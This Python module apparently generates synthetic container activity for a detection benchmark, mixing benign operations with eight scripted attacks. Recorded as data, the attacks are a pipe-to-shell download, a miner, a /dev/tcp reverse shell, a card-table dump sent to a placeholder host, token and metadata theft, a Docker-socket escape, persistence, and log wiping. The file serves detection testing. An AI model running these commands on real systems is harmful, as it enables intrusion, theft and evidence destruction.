# SPDX-License-Identifier: Apache-2.0
"""What is not ordinary in the recorded day: harmless drift, and eight attacks in the midst of it.

Every step of a deed carries its name: drift as `~name`, attacks by their bare name.
"""

from collections.abc import Iterable, Sequence

from habitus_bench.tape import Process, Tape, Unit

HOUR = 3600
RELEASE_S = 10 * HOUR
ATTACKS = (
    "web shell", "miner", "reverse shell", "database dump sent out", "cluster token", "escape by socket",
    "persistence", "fileless and traces",
)  # fmt: skip
_LOOKS = (
    "ls -la /", "ps aux", "cat /etc/resolv.conf", "df -h", "top -b -n1", "curl -sS http://localhost:8080/health",
    "tail -n 50 /proc/1/fd/1", "env",
)  # fmt: skip
_POOL = ["-o", "stratum+tcp://pool.example:3333", "-u", "48edf", "--donate-level", "1"]


def drift(tape: Tape, units: Sequence[Unit]) -> None:
    """Tell the harmless news of the day: scans, a roll-out, debugging, an installation, new jobs."""
    for unit in units:
        _compliance_scan(tape, unit, 3 * HOUR + 40 * unit.number)
    web, thumbs = _of(units, "web"), _of(units, "thumbs")
    for unit in web:
        for number in range(20):  # a scanner of vulnerabilities asks from a machine of its own
            tape.accepted(unit, 4 * HOUR + number, _first(unit), "172.31.9.9", 8080)
    for unit in thumbs:
        _roll_out(tape, unit)
    _debugging(tape, web[3], 11.3 * HOUR)
    _debugging(tape, _of(units, "db")[1], 16.7 * HOUR)
    _installation(tape, thumbs[2], 15 * HOUR)
    _weekly_copy(tape, _of(units, "db")[0], 2 * HOUR)
    _monthly_report(tape, _of(units, "batch")[0], 6 * HOUR)


def released(tape: Tape, unit: Unit) -> None:
    """Tell what the released version does beside its predecessor's work."""
    at, first = RELEASE_S + 70 + unit.number, _first(unit)
    deed = "~release"
    tape.run(unit, at, ["python3", "/app/migrate.py", "--to", "42"], first, "/usr/bin/python3.12", deed=deed)
    for number in range(40):
        tape.file(unit, at + 1, first, "open", f"/app/shop/v2/module_{number}.py", "read", deed=deed)
    tape.flow(unit, at + 2, first, "queue.shop.svc", 5672, deed=deed)


def attacks(tape: Tape, units: Sequence[Unit]) -> None:
    """Tell the attacks, each in a container of its own."""
    scenes = (
        (_web_shell, _of(units, "web")[1], 8.4), (_miner, _of(units, "thumbs")[4], 9.1),
        (_reverse_shell, _of(units, "api")[5], 12.2), (_dump_sent_out, _of(units, "db")[0], 13.5),
        (_cluster_token, _of(units, "batch")[0], 17.2), (_escape, _of(units, "runner")[1], 18.6),
        (_persistence, _of(units, "web")[5], 20.3), (_fileless, _of(units, "api")[2], 22.8),
    )  # fmt: skip
    for name, (scene, unit, hour) in zip(ATTACKS, scenes, strict=True):
        scene(tape, unit, hour * HOUR, name)


def _of(units: Iterable[Unit], name: str) -> list[Unit]:
    return [unit for unit in units if unit.image.startswith(f"shop/{name}:")]


def _first(unit: Unit) -> Process:
    if unit.first is None:
        raise RuntimeError(f"{unit.pod} has not begun to live")
    return unit.first


def _compliance_scan(tape: Tape, unit: Unit, at: float) -> None:
    deed = "~compliance scan"
    scan = tape.run(unit, at, ["/opt/scan/oscan", "--profile", "cis", "--json"], deed=deed)
    for number in range(60):
        tape.file(unit, at + 1, scan, "open", f"/usr/share/doc/package-{number}/copyright", "read", deed=deed)
    for path in ("/etc/passwd", "/etc/group", "/etc/ssl/openssl.cnf", "/etc/login.defs", "/etc/os-release"):
        tape.file(unit, at + 2, scan, "open", path, "read", deed=deed)


def _roll_out(tape: Tape, unit: Unit) -> None:
    deed = "~roll-out"
    for number in range(30):
        at = 14 * HOUR + 200 * number + unit.number
        argv = ["convert", f"/data/in/{number}.jpg", "-strip", "-quality", "85", f"/data/out/{number}.avif"]
        made = tape.run(unit, at, argv, deed=deed)
        tape.file(unit, at + 1, made, "create", f"/data/out/{number}.avif", deed=deed)
        tape.flow(unit, at + 2, _first(unit), "cdn.shop.svc", 8443, deed=deed)


def _debugging(tape: Tape, unit: Unit, at: float) -> None:
    deed = "~debugging"
    shell = tape.run(unit, at, ["bash"], _outside(), "/bin/bash", deed=deed)
    for number, command in enumerate(_LOOKS):
        tape.run(unit, at + 20 * number, command.split(), shell, deed=deed)


def _installation(tape: Tape, unit: Unit, at: float) -> None:
    deed = "~installation"
    shell = tape.run(unit, at, ["bash"], _outside(), "/bin/bash", deed=deed)
    got = tape.run(unit, at + 10, ["apt-get", "install", "-y", "strace"], shell, deed=deed)
    tape.flow(unit, at + 11, got, "deb.debian.org", 80, deed=deed)
    unpacked = tape.run(
        unit, at + 15, ["dpkg", "--unpack", "/var/cache/apt/archives/strace.deb"], got, deed=deed
    )
    for number in range(50):
        path = f"/usr/share/doc/strace/file-{number}"
        tape.file(unit, at + 16, unpacked, "create", path, deed=deed)
    tape.run(unit, at + 30, ["strace", "-f", "-p", "1"], shell, deed=deed)


def _weekly_copy(tape: Tape, unit: Unit, at: float) -> None:
    deed = "~weekly copy"
    shell = tape.run(
        unit, at, ["sh", "-c", "pg_dumpall | zstd > /backup/all.sql.zst"], exe="/bin/sh", deed=deed
    )
    tape.run(unit, at + 1, ["pg_dumpall"], shell, deed=deed)
    tape.run(unit, at + 2, ["zstd"], shell, deed=deed)
    tape.file(unit, at + 3, shell, "create", "/backup/all.sql.zst", deed=deed)
    sent = tape.run(unit, at + 60, ["rsync", "-a", "/backup/", "backup.shop.svc::db/"], shell, deed=deed)
    tape.flow(unit, at + 61, sent, "backup.shop.svc", 873, deed=deed)


def _monthly_report(tape: Tape, unit: Unit, at: float) -> None:
    deed = "~monthly report"
    shell = tape.run(unit, at, ["/bin/sh", "-c", "/app/monthly --month 2026-11"], deed=deed)
    report = tape.run(unit, at + 1, ["/app/monthly", "--month", "2026-11"], shell, deed=deed)
    tape.flow(unit, at + 2, report, "db.shop.svc", 5432, deed=deed)
    tape.run(unit, at + 30, ["zip", "-r", "/srv/reports/2026-11.zip", "/srv/reports"], shell, deed=deed)


def _outside() -> Process:
    """The parent of what an operator starts in a container: a process that the container does not see."""
    return Process(0, 0, "", "", [], [])


def _web_shell(tape: Tape, unit: Unit, at: float, deed: str) -> None:
    shell = tape.run(unit, at, ["sh", "-c", "id; uname -a; cat /etc/passwd"], exe="/bin/sh", deed=deed)
    for argv in (["id"], ["uname", "-a"], ["cat", "/etc/passwd"]):
        tape.run(unit, at + 1, argv, shell, deed=deed)
    second = tape.run(
        unit, at + 40, ["sh", "-c", "wget -qO- http://198.51.100.7/a.sh | sh"], exe="/bin/sh", deed=deed
    )
    got = tape.run(unit, at + 41, ["wget", "-qO-", "http://198.51.100.7/a.sh"], second, deed=deed)
    tape.flow(unit, at + 41, got, "198.51.100.7", 80, deed=deed)
    tape.run(unit, at + 42, ["sh"], second, "/bin/sh", deed=deed)


def _miner(tape: Tape, unit: Unit, at: float, deed: str) -> None:
    shell = tape.run(
        unit,
        at,
        ["/bin/sh", "-c", "curl -so /tmp/kworkerd http://198.51.100.9/k; chmod +x /tmp/kworkerd"],
        deed=deed,
    )
    got = tape.run(unit, at + 1, ["curl", "-so", "/tmp/kworkerd", "http://198.51.100.9/k"], shell, deed=deed)
    tape.flow(unit, at + 1, got, "198.51.100.9", 80, deed=deed)
    tape.file(unit, at + 2, got, "create", "/tmp/kworkerd", deed=deed)
    tape.file(unit, at + 3, shell, "chmod", "/tmp/kworkerd", deed=deed, mode="755")
    dug = tape.run(unit, at + 4, ["/tmp/kworkerd", *_POOL], shell, deed=deed)
    for number in range(30):
        tape.flow(unit, at + 5 + 60 * number, dug, "pool.example", 3333, deed=deed)


def _reverse_shell(tape: Tape, unit: Unit, at: float, deed: str) -> None:
    bash = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.20/4444 0>&1"]
    shell = tape.run(unit, at, bash, exe="/bin/bash", deed=deed)
    inner = tape.run(unit, at + 1, ["bash", "-i"], shell, "/bin/bash", deed=deed)
    tape.flow(unit, at + 1, inner, "198.51.100.20", 4444, deed=deed)
    for argv in (
        ["whoami"],
        ["cat", "/proc/1/environ"],
        ["find", "/", "-perm", "-4000", "-type", "f"],
        ["env"],
    ):
        tape.run(unit, at + 30, argv, inner, deed=deed)


def _dump_sent_out(tape: Tape, unit: Unit, at: float, deed: str) -> None:
    program = "echo Y3VybA== | base64 -d | sh"
    shell = tape.run(unit, at, ["sh", "-c", program], exe="/bin/sh", deed=deed)
    tape.run(unit, at + 1, ["base64", "-d"], shell, deed=deed)
    tape.run(unit, at + 2, ["sh"], shell, "/bin/sh", deed=deed)
    tape.run(unit, at + 20, ["pg_dump", "-t", "cards", "shop", "-f", "/tmp/.c"], shell, deed=deed)
    sent = tape.run(unit, at + 30, ["curl", "-T", "/tmp/.c", "https://transfer.example/c"], shell, deed=deed)
    tape.flow(unit, at + 31, sent, "transfer.example", 443, deed=deed)


def _cluster_token(tape: Tape, unit: Unit, at: float, deed: str) -> None:
    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    shell = tape.run(unit, at, ["/bin/sh", "-c", "/app/report --day $(cat /tmp/x)"], deed=deed)
    read = tape.run(unit, at + 1, ["cat", token], shell, deed=deed)
    tape.file(unit, at + 1, read, "open", token, "read", deed=deed)
    listing = [
        "curl",
        "-sk",
        "-H",
        "Authorization: Bearer x",
        "https://kubernetes.default.svc/api/v1/secrets",
    ]
    asked = tape.run(unit, at + 5, listing, shell, deed=deed)
    tape.flow(unit, at + 5, asked, "kubernetes.default.svc", 443, deed=deed)
    cloud = ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"]
    tape.run(unit, at + 9, cloud, shell, deed=deed)


def _escape(tape: Tape, unit: Unit, at: float, deed: str) -> None:
    job = "/work/job-0badcafe"
    shell = tape.run(unit, at, ["bash", "-e", f"{job}/step.sh"], exe="/bin/bash", deed=deed)
    create = [
        "curl",
        "--unix-socket",
        "/var/run/docker.sock",
        "-XPOST",
        "http://x/containers/create",
        "-d",
        "@p.json",
    ]
    tape.run(unit, at + 1, create, shell, deed=deed)
    tape.run(unit, at + 8, ["nsenter", "--target", "1", "--mount", "--pid", "--", "sh"], shell, deed=deed)
    tape.file(unit, at + 9, shell, "open", "/sys/fs/cgroup/rdma/x/release_agent", "write", deed=deed)


def _persistence(tape: Tape, unit: Unit, at: float, deed: str) -> None:
    shell = tape.run(
        unit, at, ["sh", "-c", "echo '* * * * * root /tmp/.u' > /etc/cron.d/u"], exe="/bin/sh", deed=deed
    )
    tape.file(unit, at + 1, shell, "create", "/etc/cron.d/u", deed=deed)
    tape.file(unit, at + 2, shell, "open", "/root/.ssh/authorized_keys", "write", deed=deed)
    tape.file(unit, at + 3, shell, "open", "/etc/ld.so.preload", "write", deed=deed)


def _fileless(tape: Tape, unit: Unit, at: float, deed: str) -> None:
    loader = [
        "python3",
        "-c",
        "import ctypes,os;f=os.memfd_create('k');os.execve(f'/proc/self/fd/{f}',['k'],{})",
    ]
    python = tape.run(unit, at, loader, exe="/usr/bin/python3.12", deed=deed)
    hidden = tape.run(unit, at + 1, ["kworker/0:1"], python, "memfd:k", deed=deed)
    tape.flow(unit, at + 2, hidden, "198.51.100.44", 8443, deed=deed)
    tape.run(unit, at + 60, ["shred", "-u", "/var/log/auth.log"], hidden, deed=deed)
    tape.file(unit, at + 61, hidden, "unlink", "/root/.bash_history", deed=deed)
